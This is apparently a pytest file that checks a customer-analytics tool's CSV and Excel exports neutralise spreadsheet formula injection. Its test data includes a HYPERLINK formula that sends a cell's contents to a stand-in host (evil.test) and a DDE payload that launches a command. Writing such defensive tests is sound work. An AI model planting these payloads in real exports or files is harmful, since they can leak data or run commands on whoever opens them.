"""Exports are formula-safe (OWASP CSV injection): a customer named ``=HYPERLINK(...)`` (or starting with
``+ - @``, a tab or a carriage return) comes out as inert text in every CSV and as a text cell in Excel:
the CLI export (``analysis.export``), the API segment export and the CLI's ``--format csv`` tables."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from clientlens.analysis.export import FORMULA_START, export_customers, safe_cell, safe_frame, write_table
from clientlens.store import models as m
from clientlens.store.db import session_scope

EVIL = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
        "\tTabbed", "\rReturn"]


@pytest.mark.parametrize("value", EVIL)
def test_safe_cell_neutralises_every_formula_start(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert not safe_cell(value).startswith(FORMULA_START)


def test_safe_cell_leaves_other_values_alone() -> None:
    assert [safe_cell(v) for v in ("Ann", "", None, -3, 2.5, "a=b")] == ["Ann", "", None, -3, 2.5, "a=b"]


def test_write_table_csv_and_xlsx(tmp_path: Path) -> None:
    df = pd.DataFrame({"customer_id": [str(i) for i in range(len(EVIL))], "name": EVIL,
                       "total_spend": [-1.5, 2.0, 3.0, 4.0, None, 6.0]})
    write_table(df, tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["'" + v for v in EVIL]
    assert rows[0]["total_spend"] == "-1.5"  # numbers stay numbers
    write_table(df, tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx").active
    assert ws is not None
    names = [ws.cell(row=i + 2, column=2) for i in range(len(EVIL))]
    # the value itself, stored as text (older openpyxl reads a carriage return back as a line feed)
    assert [str(c.value).replace("\r", "\n") for c in names] == [v.replace("\r", "\n") for v in EVIL]
    assert all(c.data_type == "s" for c in names)
    assert ws.cell(row=2, column=3).data_type == "n"
    assert safe_frame(df)["total_spend"].tolist()[:2] == [-1.5, 2.0]


def _poison(engine, value: str) -> str:  # type: ignore[no-untyped-def]
    """Give the first customer of the latest cdnow snapshot ``value`` as name (profile and features)."""
    with session_scope(engine) as s:
        snap_id = s.scalar(select(m.Snapshot.id).order_by(m.Snapshot.as_of.desc()).limit(1))
        feat = s.scalar(select(m.SnapshotFeatures).where(m.SnapshotFeatures.snapshot_id == snap_id)
                        .order_by(m.SnapshotFeatures.customer_id).limit(1))
        assert feat is not None
        data = json.loads(feat.data)
        data["name"] = value
        feat.data = json.dumps(data)
        s.execute(update(m.Customer).where(m.Customer.external_id == feat.customer_id).values(name=value))
        return feat.customer_id


def test_cli_export_of_a_formula_name(engine, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    cid = _poison(engine, EVIL[0])
    with session_scope(engine) as s:
        snap_id = s.scalar(select(m.Snapshot.id).order_by(m.Snapshot.as_of.desc()).limit(1))
        tax, label = s.execute(select(m.SnapshotLabel.taxonomy, m.SnapshotLabel.label).where(
            m.SnapshotLabel.snapshot_id == snap_id, m.SnapshotLabel.customer_id == cid,
            m.SnapshotLabel.taxonomy == "value")).one()
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"export.{suffix}"
        assert export_customers(engine, "cdnow", {tax: {label}}, out) > 0
        if suffix == "csv":
            got = pd.read_csv(out, dtype=str).set_index("customer_id").loc[cid, "name"]
            assert got == "'" + EVIL[0]
        else:
            ws = load_workbook(out).active
            assert ws is not None
            header = [c.value for c in ws[1]]
            row = next(r for r in ws.iter_rows(min_row=2) if str(r[0].value) == cid)
            cell = row[header.index("name")]
            assert cell.value == EVIL[0] and cell.data_type == "s"


def test_api_segment_export_of_a_formula_name(api, engine) -> None:  # type: ignore[no-untyped-def]
    cid = _poison(engine, EVIL[0])
    with session_scope(engine) as s:
        tax, label = s.execute(select(m.SnapshotLabel.taxonomy, m.SnapshotLabel.label).where(
            m.SnapshotLabel.customer_id == cid, m.SnapshotLabel.taxonomy == "value").limit(1)).one()
    resp = api["analyst"].get("/api/v1/shops/cdnow/segments/export", params={"taxonomy": tax, "label": label})
    assert resp.status_code == 200, resp.text
    rows = {r["customer_id"]: r for r in csv.DictReader(io.StringIO(resp.text))}
    assert rows[cid]["name"] == "'" + EVIL[0]
    assert not any(v.startswith(FORMULA_START) for r in rows.values() for v in r.values())
